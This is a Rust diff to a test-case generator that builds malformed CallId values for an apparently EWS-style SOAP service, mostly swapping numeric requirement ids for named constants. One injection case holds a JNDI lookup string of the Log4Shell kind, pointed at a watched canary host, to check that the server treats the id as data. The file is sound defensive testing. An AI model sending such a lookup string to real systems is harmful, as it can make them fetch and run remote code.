@@ -5,7 +5,7 @@ use base64::engine::general_purpose::STANDARD;
 
 use super::{Case, Needs};
 use crate::message::{Close, Edit, Place};
-use crate::protocol::{InputClass, names};
+use crate::protocol::{InputClass, RequirementId, names, req};
 
 /// A GUID that no server issues, with the version and variant of a random one.
 const GUID: &str = "00000000-0000-4000-8000-000000000000";
@@ -31,12 +31,12 @@ pub(super) fn cases() -> Vec<Case> {
     .concat()
 }
 
-fn case(name: &str, about: &str, class: InputClass, requirements: &[u16], edit: Edit) -> Case {
+fn case(name: &str, about: &str, class: InputClass, requirements: &[RequirementId], edit: Edit) -> Case {
     Case::request(format!("call-id/{name}"), about.to_owned(), class, requirements, vec![edit])
 }
 
 /// A case whose CallId holds this markup.
-fn text(name: &str, about: &str, class: InputClass, requirements: &[u16], markup: &str) -> Case {
+fn text(name: &str, about: &str, class: InputClass, requirements: &[RequirementId], markup: &str) -> Case {
     case(name, about, class, requirements, Edit::Content(Place::CallId, markup.to_owned()))
 }
 
@@ -64,14 +64,14 @@ fn missing() -> Vec<Case> {
         ("missing-commented-out", "CallId stands in a comment.", inside("<!--<CallId>{id}</CallId>-->")),
     ]
     .into_iter()
-    .map(|(name, about, edit)| case(name, about, InputClass::MissingCallId, &[80], edit))
+    .map(|(name, about, edit)| case(name, about, InputClass::MissingCallId, &[req::MISSING_CALL_ID], edit))
     .collect();
     let entry = format!(r#"<m:CallId xmlns:m="{}">{{id}}</m:CallId>"#, names::MESSAGES);
     cases.push(Case::request(
         "call-id/missing-in-header-only",
         "CallId is a header entry, and Disconnect is empty.",
         InputClass::MissingCallId,
-        &[80],
+        &[req::MISSING_CALL_ID],
         vec![Edit::Header(entry), Edit::Delete(Place::CallId)],
     ));
     cases
@@ -85,13 +85,13 @@ fn empty() -> Vec<Case> {
         ("empty-comment-only", "CallId holds only a comment.", "<!-- nothing -->"),
     ]
     .into_iter()
-    .map(|(name, about, markup)| text(name, about, InputClass::EmptyCallId, &[82], markup))
+    .map(|(name, about, markup)| text(name, about, InputClass::EmptyCallId, &[req::EMPTY_CALL_ID], markup))
     .collect();
     cases.push(case(
         "empty-self-closed",
         "CallId is an empty-element tag.",
         InputClass::EmptyCallId,
-        &[82],
+        &[req::EMPTY_CALL_ID],
         Edit::Close(Place::CallId, Close::Empty),
     ));
     cases
@@ -110,7 +110,13 @@ fn blank() -> Vec<Case> {
     .into_iter()
     .map(|(word, what, markup)| {
         let about = format!("CallId holds {what} and nothing else.");
-        text(&format!("blank-{word}"), &about, InputClass::BlankCallId, &[83, 82], &markup)
+        text(
+            &format!("blank-{word}"),
+            &about,
+            InputClass::BlankCallId,
+            &[req::INCORRECT_CALL_ID, req::EMPTY_CALL_ID],
+            &markup,
+        )
     })
     .collect()
 }
@@ -126,7 +132,7 @@ fn invisible() -> Vec<Case> {
     .into_iter()
     .map(|(word, c)| {
         let about = format!("CallId holds one {} and nothing else.", word.replace('-', " "));
-        text(&format!("only-{word}"), &about, InputClass::Garbage, &[83], &c.to_string())
+        text(&format!("only-{word}"), &about, InputClass::Garbage, &[req::INCORRECT_CALL_ID], &c.to_string())
     })
     .collect()
 }
@@ -152,7 +158,7 @@ fn garbage() -> Vec<Case> {
     .into_iter()
     .map(|(word, what, markup)| {
         let about = format!("CallId holds {what}.");
-        text(&format!("garbage-{word}"), &about, InputClass::Garbage, &[83], markup)
+        text(&format!("garbage-{word}"), &about, InputClass::Garbage, &[req::INCORRECT_CALL_ID], markup)
     })
     .collect()
 }
@@ -194,7 +200,13 @@ fn broken_shapes() -> Vec<Case> {
     .into_iter()
     .map(|(word, what, id)| {
         let about = format!("CallId holds {what}.");
-        text(&format!("garbage-{word}"), &about, InputClass::Garbage, &[83, 91], &id)
+        text(
+            &format!("garbage-{word}"),
+            &about,
+            InputClass::Garbage,
+            &[req::INCORRECT_CALL_ID, req::CALL_ID_SHAPE],
+            &id,
+        )
     })
     .collect()
 }
@@ -210,7 +222,7 @@ fn ews_samples() -> Vec<Case> {
             &format!("ews-sample-of-{word}"),
             &format!("CallId holds the id that the documents show for {operation} of EWS."),
             InputClass::Garbage,
-            &[97],
+            &[req::NOT_AN_EWS_ID],
             id,
         )
         .recorded()
@@ -245,7 +257,13 @@ fn injection() -> Vec<Case> {
     .into_iter()
     .map(|(word, what, markup)| {
         let about = format!("CallId holds {what}.");
-        text(&format!("injection-{word}"), &about, InputClass::Garbage, &[184, 83], markup)
+        text(
+            &format!("injection-{word}"),
+            &about,
+            InputClass::Garbage,
+            &[req::CALL_ID_IS_DATA, req::INCORRECT_CALL_ID],
+            markup,
+        )
     })
     .collect();
     cases.push(
@@ -253,9 +271,10 @@ fn injection() -> Vec<Case> {
             "injection-lookup-of-a-logger-at-canary",
             "CallId holds a lookup of a logging library at a watched address.",
             InputClass::Garbage,
-            &[184, 93],
+            &[req::CALL_ID_IS_DATA, req::CALL_ID_HOST_NOT_TRUSTED],
             "${jndi:ldap://{canary_host}/call}",
         )
+        .contact(req::CALL_ID_HOST_NOT_TRUSTED)
         .needs(Needs::Canary),
     );
     cases
@@ -264,12 +283,22 @@ fn injection() -> Vec<Case> {
 /// Ids that differ a little from that of a live call.
 fn near() -> Vec<Case> {
     [
-        ("case-swapped", "The case of every letter of a live id is changed.", 87, "{swapped}"),
-        ("last-letter-replaced", "The last letter or digit of a live id is replaced.", 84, "{flipped}"),
-        ("last-character-missing", "The last character of a live id is missing.", 84, "{cut}"),
-        ("second-half-missing", "The second half of a live id is missing.", 84, "{head}"),
-        ("letter-appended", "A letter follows a live id.", 84, "{id}x"),
-        ("doubled", "A live id is written twice in a row.", 84, "{id}{id}"),
+        ("case-swapped", "The case of every letter of a live id is changed.", req::CALL_ID_CASE, "{swapped}"),
+        (
+            "last-letter-replaced",
+            "The last letter or digit of a live id is replaced.",
+            req::UNISSUED_CALL_ID,
+            "{flipped}",
+        ),
+        (
+            "last-character-missing",
+            "The last character of a live id is missing.",
+            req::UNISSUED_CALL_ID,
+            "{cut}",
+        ),
+        ("second-half-missing", "The second half of a live id is missing.", req::UNISSUED_CALL_ID, "{head}"),
+        ("letter-appended", "A letter follows a live id.", req::UNISSUED_CALL_ID, "{id}x"),
+        ("doubled", "A live id is written twice in a row.", req::UNISSUED_CALL_ID, "{id}{id}"),
     ]
     .into_iter()
     .map(|(word, about, requirement, markup)| {
@@ -282,32 +311,61 @@ fn near() -> Vec<Case> {
 /// White space around or inside a live id.
 fn padded() -> Vec<Case> {
     [
-        ("leading-space", "A space stands before a live id.", 86, " {id}"),
-        ("trailing-space", "A space follows a live id.", 86, "{id} "),
-        ("spaces-around", "A space stands before and another after a live id.", 86, " {id} "),
-        ("leading-tab", "A tab stands before a live id.", 86, "\t{id}"),
-        ("leading-line-feed", "A line feed stands before a live id.", 86, "\n{id}"),
-        ("trailing-line-feed", "A line feed follows a live id.", 86, "{id}\n"),
+        ("leading-space", "A space stands before a live id.", req::PADDED_CALL_ID, " {id}"),
+        ("trailing-space", "A space follows a live id.", req::PADDED_CALL_ID, "{id} "),
+        (
+            "spaces-around",
+            "A space stands before and another after a live id.",
+            req::PADDED_CALL_ID,
+            " {id} ",
+        ),
+        ("leading-tab", "A tab stands before a live id.", req::PADDED_CALL_ID, "\t{id}"),
+        ("leading-line-feed", "A line feed stands before a live id.", req::PADDED_CALL_ID, "\n{id}"),
+        ("trailing-line-feed", "A line feed follows a live id.", req::PADDED_CALL_ID, "{id}\n"),
         (
             "leading-carriage-return",
             "A carriage return, written as a reference, stands before a live id.",
-            86,
+            req::PADDED_CALL_ID,
             "&#13;{id}",
         ),
-        ("space-in-cdata", "A space in a CDATA section stands before a live id.", 86, "<![CDATA[ ]]>{id}"),
+        (
+            "space-in-cdata",
+            "A space in a CDATA section stands before a live id.",
+            req::PADDED_CALL_ID,
+            "<![CDATA[ ]]>{id}",
+        ),
         (
             "pretty-printed",
             "A live id stands on an indented line of its own.",
-            86,
+            req::PADDED_CALL_ID,
             "\r\n        {id}\r\n      ",
         ),
-        ("inner-space", "A space stands in the middle of a live id.", 92, "{head} {tail}"),
-        ("inner-line-feed", "A line feed stands in the middle of a live id.", 92, "{head}\n{tail}"),
-        ("wrapped", "A line feed stands after every 76 characters of a live id.", 92, "{wrapped}"),
+        (
+            "inner-space",
+            "A space stands in the middle of a live id.",
+            req::WHITE_SPACE_WITHIN_CALL_ID,
+            "{head} {tail}",
+        ),
+        (
+            "inner-line-feed",
+            "A line feed stands in the middle of a live id.",
+            req::WHITE_SPACE_WITHIN_CALL_ID,
+            "{head}\n{tail}",
+        ),
+        (
+            "wrapped",
+            "A line feed stands after every 76 characters of a live id.",
+            req::WHITE_SPACE_WITHIN_CALL_ID,
+            "{wrapped}",
+        ),
     ]
     .into_iter()
     .map(|(word, about, requirement, markup)| {
-        let other = if requirement == 86 { 92 } else { 86 };
+        let other = if requirement == req::PADDED_CALL_ID {
+            req::WHITE_SPACE_WITHIN_CALL_ID
+        } else {
+            req::PADDED_CALL_ID
+        };
         text(&format!("padded-{word}"), about, InputClass::PaddedCallId, &[requirement, other], markup)
             .needs(Needs::LiveCall)
     })
@@ -333,7 +391,14 @@ fn nearly_padded() -> Vec<Case> {
     ]
     .into_iter()
     .map(|(word, about, markup)| {
-        text(&format!("padded-{word}"), about, InputClass::Unissued, &[84, 86], markup).needs(Needs::LiveCall)
+        text(
+            &format!("padded-{word}"),
+            about,
+            InputClass::Unissued,
+            &[req::UNISSUED_CALL_ID, req::PADDED_CALL_ID],
+            markup,
+        )
+        .needs(Needs::LiveCall)
     })
     .collect()
 }
@@ -373,7 +438,7 @@ fn unissued() -> Vec<Case> {
     .into_iter()
     .map(|(word, what, id)| {
         let about = format!("CallId has the documented shape with {what}, and was never issued.");
-        text(&format!("unissued-{word}"), &about, InputClass::Unissued, &[84], &id)
+        text(&format!("unissued-{word}"), &about, InputClass::Unissued, &[req::UNISSUED_CALL_ID], &id)
     })
     .collect()
 }
@@ -396,7 +461,14 @@ fn hosts() -> Vec<Case> {
     .into_iter()
     .map(|(word, what, host)| {
         let about = format!("CallId has the documented shape and names {what}.");
-        text(&format!("host-{word}"), &about, InputClass::Unissued, &[93, 84], &shaped(GUID, host))
+        text(
+            &format!("host-{word}"),
+            &about,
+            InputClass::Unissued,
+            &[req::CALL_ID_HOST_NOT_TRUSTED, req::UNISSUED_CALL_ID],
+            &shaped(GUID, host),
+        )
+        .contact(req::CALL_ID_HOST_NOT_TRUSTED)
     })
     .collect();
     cases.push(
@@ -404,9 +476,10 @@ fn hosts() -> Vec<Case> {
             "host-canary",
             "CallId has the documented shape and names an address that the run watches.",
             InputClass::Unissued,
-            &[93, 84],
+            &[req::CALL_ID_HOST_NOT_TRUSTED, req::UNISSUED_CALL_ID],
             "{canary_id}",
         )
+        .contact(req::CALL_ID_HOST_NOT_TRUSTED)
         .needs(Needs::Canary),
     );
     cases
